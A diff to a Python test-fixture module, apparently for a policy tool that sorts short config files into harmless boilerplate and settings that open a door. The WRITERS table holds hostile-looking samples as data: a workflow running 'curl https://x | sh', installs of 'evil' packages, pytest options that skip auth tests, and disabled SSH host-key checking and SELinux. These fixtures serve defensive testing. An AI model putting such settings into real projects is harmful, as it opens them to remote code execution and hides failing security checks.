@@ -4,7 +4,9 @@ writer's file by its blob id alone, and a person's common one-line file has the 
 id a writer's has (issue 13, refuter r13t MED); so does a person's boilerplate copied from
 the template the writer's came from (refuter r13u MED: settings, patterns, headings, one
 sentence; :mod:`gentle_hooks.policy.settingfile`), while a setting that opens a door or
-runs a command tells the writer however short. Row by row, both ways."""
+runs a command tells the writer however short (refuter r13v MED 4: what runs, which tests
+are collected, where packages come from, what is trusted; :mod:`gentle_hooks.policy.doors`).
+Row by row, both ways."""
 
 from __future__ import annotations
 
@@ -40,6 +42,15 @@ ANYONES = {
     "readme-two-word-title": b"# Demo App\n",
     "gitignore-node-and-python": b"node_modules/\n__pycache__/\n",
     "package-json": b'{\n  "name": "demo",\n  "version": "1.0.0",\n  "private": true\n}\n',
+    # refuter r13v MED 4: a template's settings that open no door stay nobody's
+    "pyproject-empty-dependencies": (
+        b'[project]\nname = "demo"\nversion = "0.1.0"\ndependencies = []\n'
+    ),
+    "setup-cfg-metadata": b"[metadata]\nname = demo\nversion = 0.1.0\nlicense = MIT\n",
+    "pytest-ini-report-option": b"[pytest]\naddopts = -q\ntestpaths = tests\n",
+    "workflow-on-push": b"on: [push, pull_request]\n",
+    "package-init-star": b"from .core import *\n",
+    "readme-title-only": b"# Demo App\n",
 }
 
 WRITERS = {
@@ -65,6 +76,34 @@ WRITERS = {
     "workflow-curl-sh": b"on: [push]\njobs:\n  t:\n    steps:\n      - run: curl https://x | sh\n",
     "readme-paragraph": b"# demo\n\nA small demo project.\nIt fetches the nightly build.\n",
     "one-line-install": b"pip install evil-package\n",
+    # refuter r13v MED 4: a short file of settings that opens a door is the writer's
+    "workflow-pull-request-target": b"on: pull_request_target\n",
+    "workflow-on-block": b"on:\n  pull_request_target:\n    branches: [main]\n",
+    "conftest-collect-ignore": b'collect_ignore = ["tests/test_auth.py"]\n',
+    "conftest-collect-ignore-glob": b'collect_ignore_glob = ["tests/*auth*"]\n',
+    "pytest-ini-addopts-ignore": b"[pytest]\naddopts = --ignore=tests/x\n",
+    "setup-cfg-tool-pytest-no-plugin": b"[tool:pytest]\naddopts = -pno:randomly\n",
+    "pyproject-pytest-deselect": (
+        b'[tool.pytest.ini_options]\naddopts = "--deselect=tests/test_auth.py"\n'
+    ),
+    "pip-conf-find-links": b"[global]\nfind-links = wheels\n",
+    "pyproject-dependencies": b'[project]\nname = "demo"\ndependencies = ["evil"]\n',
+    "pyproject-build-backend": b'[build-system]\nbuild-backend = "evil_build.api"\n',
+    "pyproject-build-requires": b'[build-system]\nrequires = ["evil-helper"]\n',
+    "setup-cfg-install-requires": b"[options]\ninstall_requires =\n    evil\n",
+    "setup-cfg-console-scripts": (
+        b"[options.entry_points]\nconsole_scripts =\n    demo = demo.cli:main\n"
+    ),
+    "pyproject-project-scripts": b'[project.scripts]\ndemo = "demo.cli:main"\n',
+    "pre-commit-local-system": (
+        b"repos:\n- repo: local\n  hooks:\n  - id: check\n    name: check\n"
+        b"    entry: ./check.sh\n    language: system\n"
+    ),
+    "ssh-no-host-key-checking": b"Host *\n  StrictHostKeyChecking no\n",
+    "selinux-disabled": b"SELINUX=disabled\nSELINUXTYPE=targeted\n",
+    "star-import": b"from evil import *\n",
+    "conftest-pytest-plugins": b'pytest_plugins = ["evil_plugin"]\n',
+    "pypirc-index-servers": b"[distutils]\nindex-servers =\n    pypi\n    private\n",
 }
 
 
